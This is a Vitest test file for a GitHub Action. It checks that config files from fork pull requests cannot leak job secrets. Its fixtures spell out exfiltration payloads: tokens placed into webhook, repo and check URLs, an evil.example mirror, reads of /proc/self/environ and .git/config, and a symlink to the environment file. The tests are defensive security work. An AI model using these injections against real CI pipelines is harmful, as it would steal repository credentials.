import { readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createWorld } from "../app/support/world.ts";
import { serve } from "../support/local-server.ts";
import { commandIn } from "../support/runner-commands.ts";
import { createRunner, emptyPlace, steady } from "./support/bundle.ts";

/** What a job has and no stranger may see. */
const canaries = {
  ACTIONS_RUNTIME_TOKEN: "canary-runtime",
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: "canary-id",
  GITHUB_TOKEN: "canary-github",
  INPUT_TOKEN: "canary-input",
  STATE_TOKEN: "canary-state",
  OTHER_SECRET: "canary-other",
};

const fromFork = {
  pull_request: {
    head: { repo: { id: 2, full_name: "ann/stack" } },
    base: { repo: { id: 1, full_name: "org/stack" } },
  },
};

/** Runs the action's main step for an event of GitHub's, with these inputs. */
async function mainFor(
  folder: string,
  event: { readonly name: string; readonly payload: object },
  inputs: Readonly<Record<string, string>> = {},
) {
  const runner = await createRunner(folder);
  const path = join(folder, ".runner/event.json");
  await writeFile(path, JSON.stringify(event.payload));
  const given = Object.fromEntries(
    Object.entries(inputs).map(([name, value]) => [`INPUT_${name.toUpperCase()}`, value]),
  );
  const env = { ...canaries, ...given, GITHUB_EVENT_NAME: event.name, GITHUB_EVENT_PATH: path };
  const finished = await runner.start("main.js", env).finished;
  return { runner, ...steady(finished, folder) };
}

const fork = { name: "pull_request", payload: fromFork };

/** Without what the runner only takes note of, and shows to nobody. */
function shownOf(stdout: string): string {
  const isMask = (line: string) => commandIn(line) === "add-mask";
  return stdout
    .split("\n")
    .filter((line) => !isMask(line))
    .join("\n");
}

describe("dist/main.js for a fork's pull request", () => {
  it("refuses every setting that only inputs may set, before anything is installed", async () => {
    await using place = await emptyPlace();
    const yaml = `helm: {path: ./evil}
k3s: {args: [--kubelet-arg=x]}
report-dir: /tmp/evil
mirrors: {"https://": "http://evil.example/"}
`;
    await writeFile(join(place.cwd, "monstack.yaml"), yaml);
    const { exitCode, stdout, stderr, runner } = await mainFor(place.cwd, fork);
    expect([exitCode, stderr]).toEqual([1, ""]);
    const places = [...stdout.matchAll(/monstack\.yaml:(\d+):\d+: ([\w.-]+): /g)].map(
      ([, line, key]) => `${line} ${key}`,
    );
    expect(places).toEqual(["1 helm.path", "2 k3s.args", "3 report-dir", "4 mirrors"]);
    expect(stdout).toContain(
      "with trust: restricted (pull_request from the fork ann/stack); set it by the input set, line `helm.path: ...`",
    );
    expect([await runner.state(), await runner.outputs(), await runner.told("PATH")]).toEqual([{}, {}, ""]);
    expect((await readdir(place.cwd)).sort()).toEqual([".runner", "home", "monstack.yaml"]);
    expect(await readdir(join(place.cwd, "home"))).toEqual([]);
  });

  it.each([
    [
      "repos",
      (url: string) => `repos: {evil: {url: "${url}", username: x, password: "\${ACTIONS_RUNTIME_TOKEN}"}}`,
    ],
    [
      "checks",
      (url: string) => `checks: [{name: x, http: {url: "${url}", headers: {X: "\${GITHUB_TOKEN}"}}}]`,
    ],
    [
      "alerting",
      (url: string) =>
        `alerting: {config: {receivers: [{name: x, webhook_configs: [{url: "${url}\${INPUT_TOKEN}"}]}]}}`,
    ],
    ["remote-write", (url: string) => `remote-write: [{url: "${url}", bearer-token-env: OTHER_SECRET}]`],
    ["a file", () => `alerting: {config: {receivers: [{name: "\${file:/proc/self/environ}"}]}}`],
    ["git's own file", () => `alerting: {config: {receivers: [{name: "\${file:.git/config}"}]}}`],
  ])("sends no secret of the job anywhere and shows none: %s", async (_, yaml) => {
    await using place = await emptyPlace();
    await using server = await serve(() => ({ body: "" }));
    await writeFile(join(place.cwd, "monstack.yaml"), yaml(`${server.url}/`));
    const { exitCode, stdout, stderr, runner } = await mainFor(place.cwd, fork, {
      env: "GITHUB_TOKEN,INPUT_TOKEN",
    });
    expect([exitCode, server.received, stderr]).toEqual([1, [], ""]);
    expect(stdout).toMatch(/^trust: restricted \(pull_request from the fork ann\/stack\)$/m);
    expect(stdout).toMatch(
      /^::error::monstack\.yaml:1:\d+: .*(can't be named|runner's own|outside the workspace|hold secrets)/m,
    );
    expect(shownOf(stdout) + (await runner.told("STEP_SUMMARY"))).not.toContain("canary");
  });

  it("reads no link that leads out of the checkout", async () => {
    await using place = await emptyPlace();
    await symlink("/proc/self/environ", join(place.cwd, "monstack.yaml"));
    const { exitCode, stdout } = await mainFor(place.cwd, fork);
    expect([exitCode, shownOf(stdout).includes("canary")]).toEqual([1, false]);
    expect(stdout).toContain("is not touched: it lies outside the workspace");
  });

  it("deploys what is left, with the programs and folders that inputs name; no child sees a secret", async () => {
    await using world = await createWorld();
    const helm = join(world.folder, "helm");
    const script = await readFile(helm, "utf8");
    await writeFile(helm, script.replace("#!/bin/sh\n", `#!/bin/sh\nenv >> '${world.folder}/helm.env'\n`));
    const inputs = {
      mode: "run",
      kubeconfig: join(world.folder, "kubeconfig"),
      set: `cluster.context: here\nhelm.path: ${helm}\nkubectl.path: ${join(world.folder, "kubectl")}`,
      mirrors: "https://=http://127.0.0.1:1/",
      "report-dir": world.reportDir,
    };
    const { exitCode, stdout, runner } = await mainFor(world.folder, fork, inputs);
    expect([exitCode, stdout.match(/^::(error|warning).*/gm)]).toEqual([0, null]);
    expect(stdout.match(/trust: .*/g)).toEqual(["trust: restricted (pull_request from the fork ann/stack)"]);
    const seen = (await world.read("helm.env")) ?? "";
    expect(seen).toMatch(/^HOME=/m);
    // This helm logs in to a cluster of the user's, and gets what that may need: all but the runner's own.
    expect(seen.match(/canary-\w+/g)?.filter((one) => one !== "canary-other") ?? []).toEqual([]);
    expect((await runner.told("PATH")).trim().split("\n")).toContain(world.folder);
  });
});

describe("dist/main.js for pull_request_target", () => {
  const target = { name: "pull_request_target", payload: fromFork };

  it("is restricted by itself", async () => {
    await using place = await emptyPlace();
    await writeFile(join(place.cwd, "monstack.yaml"), "bundle: ./none.tar\n");
    const { exitCode, stdout } = await mainFor(place.cwd, target);
    expect([exitCode, stdout.includes("bundle: programs come from it")]).toEqual([1, true]);
  });

  it("takes the workflow's word for full trust, with a warning", async () => {
    await using place = await emptyPlace();
    await writeFile(join(place.cwd, "monstack.yaml"), "bundle: ./none.tar\n");
    const { exitCode, stdout } = await mainFor(place.cwd, target, { trust: "full", mode: "run" });
    expect(exitCode).toBe(1);
    expect(stdout).toContain("trust: full (set by input trust)");
    expect(stdout).toMatch(
      /^::warning title=monstack%3A trust::trust is full, set by input trust, although pull_request_target/m,
    );
    expect(stdout).not.toContain("a file can't set it");
  });
});

describe("a program that a file names", () => {
  it("is run, and its folder not put first in PATH for later steps", async () => {
    await using world = await createWorld();
    const { exitCode, stdout, runner } = await mainFor(
      world.folder,
      { name: "push", payload: {} },
      { mode: "run" },
    );
    expect(exitCode).toBe(0);
    expect(await runner.told("PATH")).toBe("");
    expect(stdout).toContain(
      "helm is not put into PATH: a file names it; the line `helm.path: ...` in the input set does that",
    );
  });
});
